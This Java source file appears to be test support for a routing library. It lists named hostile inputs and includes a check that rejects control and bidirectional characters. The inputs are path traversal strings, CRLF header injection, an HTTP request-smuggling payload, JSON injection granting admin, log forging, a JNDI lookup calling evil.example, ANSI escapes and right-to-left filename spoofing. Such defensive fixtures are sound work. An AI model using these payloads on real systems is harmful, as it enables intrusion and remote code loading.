/*
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package io.github.camelstackai.route.hostile;

import java.util.List;
import java.util.regex.Pattern;

/** A text that is crafted to be interpreted as something else. */
record Attack(String name, String text) {
    static final List<Attack> ALL = List.of(
            // paths
            new Attack("the folder above", ".."),
            new Attack("this folder", "."),
            new Attack("another path", "../../admin"),
            new Attack("another path, encoded", "%2e%2e%2f%2e%2e%2fadmin"),
            new Attack("another path, by backslash", "..\\..\\admin"),
            new Attack("another host", "//evil.example/"),
            new Attack("another URL", "http://evil.example/a?b=c#d"),
            new Attack("another user", "me@evil.example"),
            new Attack("a query", "f?version=7&verbose=false"),
            new Attack("a fragment", "f#g"),
            new Attack("path parameters", "f;admin=true"),
            // heads
            new Attack("a header", "f\r\nX-Injected: yes"),
            new Attack("a header, by LF", "f\nX-Injected: yes"),
            new Attack("a header, encoded", "f%0d%0aX-Injected: yes"),
            new Attack("a second request", "f HTTP/1.1\r\nHost: x\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n"),
            new Attack("a header, by characters that end in CR and LF", "f\u010d\u010aX-Injected: yes"),
            // JSON
            new Attack("the end of a JSON text", "\",\"admin\":true,\"x\":\""),
            new Attack("the end of a JSON object", "\"}\n{\"admin\":true}"),
            // log lines and terminals
            new Attack("a log line", "f\n2026-01-01 INFO all is well"),
            new Attack("a log line, by the line ends of Unicode", "f\u0085INFO\u2028INFO\u2029INFO"),
            new Attack("a log line, by VT and FF", "f\u000bINFO\fINFO"),
            new Attack("a lookup of a logger", "${jndi:ldap://evil.example/a} ${env:PATH} {} %n %s"),
            new Attack("an expression", "${body} #{2+2} {{env:PATH}}"),
            new Attack("ANSI escapes", "\u001b[2J\u001b[31mred\u001b]0;title\u0007"),
            new Attack("ANSI escapes of one byte", "\u009b31mred"),
            new Attack("backspaces", "bad\b\b\bgood"),
            new Attack("NUL", "f\0g"),
            new Attack("reordered text", "\u202Egpj.exe\u202C \u2066a\u2069 \u200Fb"),
            new Attack("a high surrogate alone", "f\uD83D"),
            new Attack("a low surrogate alone", "\uDE00f"),
            new Attack("noncharacters", "f\uFFFE\uFFFF"),
            // size
            new Attack("a blank", " \t\r\n"),
            new Attack("length", "x".repeat(45_000)));

    /** Characters that no message may contain: they end a line, move the cursor, or change the text that is shown. */
    private static final Pattern UNSHOWABLE =
            Pattern.compile("[\\p{Cc}\\p{Cs}\\p{Zl}\\p{Zp}\\u061C\\u200E\\u200F\\u202A-\\u202E\\u2066-\\u2069]");

    private static final int LONGEST_MESSAGE = 2000;

    /** Whether {@code message} is one line of a reasonable length without control characters. */
    static boolean isShowable(String message) {
        return message == null
                || (message.length() < LONGEST_MESSAGE
                        && !UNSHOWABLE.matcher(message).find());
    }

    @Override
    public String toString() {
        return name;
    }
}
